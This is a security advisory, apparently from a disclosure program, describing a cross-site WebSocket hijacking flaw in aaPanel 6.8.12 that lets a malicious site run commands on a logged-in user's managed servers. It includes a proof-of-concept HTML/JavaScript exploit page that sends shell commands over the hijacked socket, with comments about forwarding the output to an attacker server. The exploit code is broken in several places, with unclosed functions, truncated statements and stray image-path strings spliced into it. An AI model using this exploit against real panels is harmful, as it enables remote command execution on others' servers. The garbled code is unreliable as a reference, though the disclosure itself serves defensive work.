SSD Advisory – aaPanel CSWH to RCE


Find out how a CSWH hijacking vulnerability in aaPanel allows remote attackers to cause an authenticated user to execute arbitrary commands inside aaPanel’s managed servers.

Vulnerability Summary

aaPanel, a simple but powerful control panel, can manage the web server through web-based GUI(Graphical User Interface).

aaPanel provides “the one-click function such as one-click install LNMP/LAMP developing environment and software. Our main goal is helping users to save the time of deploying, thus users just focus on their own project that is fine”.

If an unsuspecting victim visits an attacker site, while being logged on to aaPanel, an attacker can cause his browser to access aaPanel managed servers and run commands on them without his knowledge.




An independent security researcher has reported this vulnerability to the SSD Secure Disclosure program.Affected Versions

aaPanel LinuxStable 6.8.12

Vendor Response

We have reported the vulnerability in aaPanel’s github repository and have not received any response.

Vulnerability Analysis

aaPanel allows web based SSH connection to be put in place, these SSH connections are communicated with via websockets. aaPanel has been found to not perform any origin validation when initialising a SSH connection from client to theserver. Hence, it is possible to perform a cross-site websocket hijacking attack which can result in remote code execution (on the managed instance).

Requirements (to exploit)

  1. Knowledge of the IP/FQDN of the aaPanel
  2. Victim has to visit a malicious web site with Firefox (the vulnerability doesn’t work with Chrome)
  3. Victim has to have configured Terminal with at least one managed instance
  4. Victim has to have been logged on to the aaPanel prior to have visited the malicious web site


<!DOCTYPE html>
<meta charset="utf-8" />
<title>CSWH Hijacking exploit</title>
<script language="javascript" type="text/javascript">
var wsUri = "ws://"; //WS URL of the vulnerable app
var output;//Auth check in
function init(){
  output = document.getElementById("output");
function testWebSocket(){
  websocket = new WebSocket(wsUri, );
  websocket.onopen = function(evt) { onOpen(evt) };
  websocket.onclose = function(evt) { onClose(evt) };
  websocket.onmessage = function(evt) { onMessage(evt) };
  websocket.onerror = function(evt) { onError(evt) };
function onOpen(evt){ //when the WS is connected, send a message the server
  doSend("cat /etc/issue;whoami;ls -la\n");
function onClose(evt){
function onMessage(evt){ //when recieving a WS message, send it in POST to my server
  writeToScreen("RECIEVED : " +;
function onError(evt){
  writeToScreen('<span style="color: red;">ERROR:</span> ' +;
function doSend(message){ //function for sending messages via the WS
  writeToScreen("SENT : " + message);
function writeToScreen(message){ //function for showing errors and other infovar pre = document.createElement("p"); = "break-word";
  pre.innerHTML = message;window.addEventListener("load", init, false);  //whenloading the page, execute init()
// creatingWebsocket --> sending a message --> recieving the response and forward it to our server<h2>WebSocket Exploit</h2>
<divid="output"></div>



Get in touch